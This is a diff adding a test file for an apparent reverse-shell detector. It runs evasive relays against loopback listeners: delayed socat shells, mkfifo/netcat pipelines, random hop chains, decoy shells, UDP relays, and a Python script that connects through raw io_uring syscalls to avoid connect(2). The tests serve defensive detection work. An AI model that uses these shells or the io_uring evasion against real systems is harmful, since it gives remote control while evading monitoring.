@@ -1,0 +1,251 @@
+/**
+ * The relay evasions (issue 26): relays that wait out a window, connect late, add hops, hide
+ * behind decoy candidates or talk UDP. Real programs against loopback listeners that send a
+ * command and read its answer; variants are generated at test time (a delay past any window
+ * the rule had, a chain of random length and hop kinds), so no list in the code can satisfy
+ * them. Each must give exactly one finding from the default configuration.
+ */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { Engine, ProcHostView, ProcessTable, builtinRules, type Finding } from "sockeye";
+import dgram from "node:dgram";
+import { mkdtempSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { PYTHON, Session, commandingListener, freePort, kernelTier, run } from "./harness.js";
+
+const tier = kernelTier();
+
+interface RelayFinding extends Finding {
+  destination: { ip: string; port: number };
+  network: { transport: string };
+  sockeye: Finding["sockeye"] & { relay: { program: { name: string }; input_chain: unknown[]; output_chain: unknown[] } };
+}
+
+/** A whole number from min to max inclusive, logged so a failing draw can be replayed. */
+function draw(what: string, min: number, max: number): number {
+  const n = min + Math.floor(Math.random() * (max - min + 1));
+  console.log(`relay-evasions: ${what} = ${n}`);
+  return n;
+}
+
+/**
+ * A UDP "listener" for a client bound to `clientPort`: it sends the command there until the
+ * answer comes back from that port (the client may not be up yet: early datagrams are lost),
+ * then `exit`. UDP has no accept: the client's port is fixed by the test so the listener
+ * knows where to send first.
+ */
+async function udpCommander(clientPort: number): Promise<{ port: number; answered: Promise<boolean>; close(): Promise<void> }> {
+  const sock = dgram.createSocket("udp4");
+  sock.on("error", () => {});
+  await new Promise<void>((resolve) => sock.bind(0, "127.0.0.1", resolve));
+  let got = "";
+  let resolveAnswered!: (ok: boolean) => void;
+  const answered = new Promise<boolean>((r) => (resolveAnswered = r));
+  const timer = setInterval(() => sock.send("echo RELAY_$((6*7))\n", clientPort, "127.0.0.1"), 300);
+  sock.on("message", (msg, from) => {
+    if (from.port !== clientPort) return;
+    got += msg.toString();
+    if (got.includes("RELAY_42")) {
+      clearInterval(timer);
+      resolveAnswered(true);
+      // The rules read /proc of live processes: the shell lives a moment longer.
+      setTimeout(() => sock.send("exit\n", clientPort, "127.0.0.1"), 1500);
+    }
+  });
+  setTimeout(() => { clearInterval(timer); resolveAnswered(false); }, 20_000).unref();
+  return { port: sock.address().port, answered, close: () => new Promise((resolve) => { clearInterval(timer); sock.close(() => resolve()); }) };
+}
+
+/**
+ * connect(2) through io_uring (IORING_OP_CONNECT), raw syscalls from python's ctypes: no
+ * liburing needed. The relay then runs sh -i behind two pipes, as a Popen relay does.
+ */
+const IO_URING_RELAY = `
+import ctypes, mmap, os, socket, struct, subprocess, sys, threading
+libc = ctypes.CDLL(None, use_errno=True)
+libc.syscall.restype = ctypes.c_long
+u32 = ctypes.c_uint32
+class SqOff(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries flags dropped array resv1".split()] + [("user_addr", ctypes.c_uint64)]
+class CqOff(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "head tail ring_mask ring_entries overflow cqes flags resv1".split()] + [("user_addr", ctypes.c_uint64)]
+class Params(ctypes.Structure):
+    _fields_ = [(n, u32) for n in "sq_entries cq_entries flags sq_thread_cpu sq_thread_idle features wq_fd".split()] + [("resv", u32 * 3), ("sq_off", SqOff), ("cq_off", CqOff)]
+IORING_OP_CONNECT, IORING_ENTER_GETEVENTS, IORING_OFF_SQES = 16, 1, 0x10000000
+def uring_connect(sock, host, port):
+    p = Params()
+    fd = libc.syscall(425, 4, ctypes.byref(p))  # io_uring_setup
+    if fd < 0: raise OSError(ctypes.get_errno(), "io_uring_setup")
+    size = max(p.sq_off.array + p.sq_entries * 4, p.cq_off.cqes + p.cq_entries * 16)
+    ring = mmap.mmap(fd, size, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=0)
+    sqes = mmap.mmap(fd, p.sq_entries * 64, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE, offset=IORING_OFF_SQES)
+    addr = ctypes.create_string_buffer(struct.pack("=H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8))
+    sqes[0:64] = struct.pack("=BBHiQQIIQ24x", IORING_OP_CONNECT, 0, 0, sock.fileno(), 16, ctypes.addressof(addr), 0, 0, 1)
+    tail, mask = struct.unpack_from("=I", ring, p.sq_off.tail)[0], struct.unpack_from("=I", ring, p.sq_off.ring_mask)[0]
+    struct.pack_into("=I", ring, p.sq_off.array + (tail & mask) * 4, 0)
+    struct.pack_into("=I", ring, p.sq_off.tail, tail + 1)
+    if libc.syscall(426, fd, 1, 1, IORING_ENTER_GETEVENTS, None, 0) < 0: raise OSError(ctypes.get_errno(), "io_uring_enter")
+    head, cmask = struct.unpack_from("=I", ring, p.cq_off.head)[0], struct.unpack_from("=I", ring, p.cq_off.ring_mask)[0]
+    res = struct.unpack_from("=i", ring, p.cq_off.cqes + (head & cmask) * 16 + 8)[0]
+    if res < 0: raise OSError(-res, "IORING_OP_CONNECT")
+s = socket.socket()
+uring_connect(s, sys.argv[1], int(sys.argv[2]))
+c = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+def up():
+    while True:
+        d = os.read(c.stdout.fileno(), 4096)
+        if not d: break
+        s.sendall(d)
+threading.Thread(target=up, daemon=True).start()
+while True:
+    d = s.recv(4096)
+    if not d: break
+    c.stdin.write(d); c.stdin.flush()
+c.wait()
+`;
+
+describe.runIf(tier.run)("kernel: relay evasions (no window, no hop count, decoys, UDP), default configuration", () => {
+  let session: Session;
+  let engine: Engine;
+  const findings: RelayFinding[] = [];
+  const dir = mkdtempSync(join(tmpdir(), "sockeye-relay-evasions-"));
+
+  beforeAll(async () => {
+    session = await Session.open();
+    const table = new ProcessTable({ host: new ProcHostView() });
+    table.seedFromProc();
+    engine = new Engine({ rules: builtinRules(), processes: table });
+    session.sensor.subscribe((events) => {
+      for (const e of events) for (const f of engine.handle(e)) findings.push(f as unknown as RelayFinding);
+    });
+  });
+  afterAll(() => session?.close());
+
+  const forPort = (port: number) => findings.filter((f) => f.destination?.port === port);
+
+  /** Runs `script` under bash against a commanding TCP listener; expects one RELAY-001 finding for it. */
+  async function caughtOnce(script: (port: number) => string, killAfterS: number, program: string[]): Promise<RelayFinding> {
+    const listener = await commandingListener("127.0.0.1");
+    try {
+      const r = await run("timeout", ["-s", "KILL", String(killAfterS), "bash", "-c", script(listener.port)]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = forPort(listener.port);
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      expect(program).toContain(found[0]!.sockeye.relay.program.name);
+      return found[0]!;
+    } finally {
+      await listener.close();
+    }
+  }
+
+  it("socat TCP:H:P SYSTEM:'sleep 11; exec sh -i': the shell starts 11 s after the connect", async () => {
+    await caughtOnce((p) => `socat TCP:127.0.0.1:${p} SYSTEM:'sleep 11; exec sh -i'`, 40, ["socat"]);
+  }, 60_000);
+
+  it("the same with a delay drawn at test time past any window the rule had (12-20 s)", async () => {
+    const delay = draw("socat SYSTEM delay (s)", 12, 20);
+    await caughtOnce((p) => `socat TCP:127.0.0.1:${p} SYSTEM:'sleep ${delay}; exec sh -i'`, delay + 30, ["socat"]);
+  }, 80_000);
+
+  it("a relay that connects more than 5 s after its shell started (a drawn 6-9 s)", async () => {
+    const delay = draw("late connect delay (s)", 6, 9);
+    const f = join(dir, `late-${delay}`);
+    await caughtOnce((p) => `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | (sleep ${delay}; exec nc.traditional 127.0.0.1 ${p}) > ${f}`, delay + 30, ["nc.traditional"]);
+  }, 60_000);
+
+  it("a chain of random length (2-6 hops of cat, socat and FIFOs, generated now) between the shell and nc", async () => {
+    const kinds = ["cat", "socat", "fifo"] as const;
+    let fifos = 0;
+    const hop = (kind: (typeof kinds)[number]) => {
+      if (kind === "cat") return "cat";
+      if (kind === "socat") return "socat -u STDIN STDOUT";
+      // Two processes around a FIFO of its own: one reads it out (in the background, its
+      // stdin redirected explicitly: bash gives a background command /dev/null otherwise), the
+      // other writes the hop's input into it.
+      const ff = join(dir, `hop-${process.pid}-${fifos++}`);
+      return `{ rm -f ${ff}; mkfifo ${ff}; cat < ${ff} & cat > ${ff}; wait; }`;
+    };
+    const side = (n: number) => Array.from({ length: n }, () => kinds[Math.floor(Math.random() * kinds.length)]!);
+    const total = draw("chain hops", 2, 6);
+    const inward = side(draw("of which on the input side", 1, total - 1));
+    const outward = side(total - inward.length);
+    console.log(`relay-evasions: chain nc -> ${inward.join(" -> ")} -> sh -> ${outward.join(" -> ")} -> nc`);
+    const f = join(dir, `chain-${total}`);
+    const found = await caughtOnce(
+      (p) => `rm -f ${f}; mkfifo ${f}; nc.traditional 127.0.0.1 ${p} < ${f} | ${inward.map(hop).join(" | ")} | sh -i 2>&1 | ${outward.map(hop).join(" | ")} > ${f}`,
+      30, ["nc.traditional"]);
+    // Every hop is on the way: a FIFO hop is two processes.
+    const processes = (list: readonly string[]) => list.reduce((n, k) => n + (k === "fifo" ? 2 : 1), 0) + 1;
+    expect(found.sockeye.relay.input_chain).toHaveLength(processes(inward));
+    expect(found.sockeye.relay.output_chain).toHaveLength(processes(outward));
+  }, 60_000);
+
+  it("300 decoy candidate shells started between the shell's exec and its relay's connect: one finding, no candidate abandoned", async () => {
+    const ready = join(dir, "decoys-ready");
+    const f = join(dir, "decoys");
+    const before = engine.stats().ruleState["RELAY-001"]?.abandoned ?? 0;
+    const decoys = `${PYTHON} -c '
+import subprocess,time,os
+ds=[subprocess.Popen(["/bin/sh"],stdin=subprocess.PIPE,stdout=subprocess.PIPE) for _ in range(300)]
+open("${ready}","w").close()
+time.sleep(8)
+for d in ds: d.kill()
+'`;
+    await caughtOnce(
+      (p) => `rm -f ${f} ${ready}; mkfifo ${f}; sh -i < ${f} 2>&1 | (while [ ! -e ${ready} ]; do sleep 0.2; done; exec nc.traditional 127.0.0.1 ${p}) > ${f} & sleep 0.5; ${decoys} & wait`,
+      40, ["nc.traditional"]);
+    expect(engine.stats().ruleState["RELAY-001"]!.abandoned).toBe(before);
+  }, 60_000);
+
+  it("socat UDP:127.0.0.1:P EXEC:sh (a connected UDP socket, socketpair): one finding, transport udp", async () => {
+    const clientPort = await freePort();
+    const listener = await udpCommander(clientPort);
+    try {
+      const r = await run("timeout", ["-s", "KILL", "20", "socat", `UDP:127.0.0.1:${listener.port},sourceport=${clientPort}`, "EXEC:sh"]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = forPort(listener.port);
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      expect(found[0]!.network.transport).toBe("udp");
+      expect(found[0]!.sockeye.relay.program.name).toBe("socat");
+    } finally {
+      await listener.close();
+    }
+  }, 40_000);
+
+  it("ncat -u with mkfifo: sh -i < F 2>&1 | ncat -u H P > F: one finding, transport udp", async () => {
+    const clientPort = await freePort();
+    const listener = await udpCommander(clientPort);
+    const f = join(dir, "udp-fifo");
+    try {
+      const r = await run("timeout", ["-s", "KILL", "20", "bash", "-c",
+        `rm -f ${f}; mkfifo ${f}; sh -i < ${f} 2>&1 | ncat -u -p ${clientPort} 127.0.0.1 ${listener.port} > ${f}`]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = forPort(listener.port);
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      expect(found[0]!.network.transport).toBe("udp");
+      expect(found[0]!.sockeye.relay.program.name).toBe("ncat");
+    } finally {
+      await listener.close();
+    }
+  }, 40_000);
+
+  it("a relay whose connect goes through io_uring (IORING_OP_CONNECT, no connect(2)): one finding, the connect named unseen", async () => {
+    const listener = await commandingListener("127.0.0.1");
+    try {
+      const r = await run("timeout", ["-s", "KILL", "20", PYTHON, "-c", IO_URING_RELAY, "127.0.0.1", String(listener.port)]);
+      expect(await listener.answered, `no answer from the shell: ${r.stderr}`).toBe(true);
+      await session.settle();
+      const found = forPort(listener.port) as (RelayFinding & { sockeye: { relay: { connected_by: unknown; connect_unseen?: boolean } } })[];
+      expect(found.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+      expect(found[0]!.sockeye.relay.program.name).toMatch(/^python3/);
+      // No connect record: the host's TCP table showed the socket outbound.
+      expect(found[0]!.sockeye.relay.connect_unseen).toBe(true);
+      expect(found[0]!.sockeye.relay.connected_by).toBeNull();
+    } finally {
+      await listener.close();
+    }
+  }, 40_000);
+});
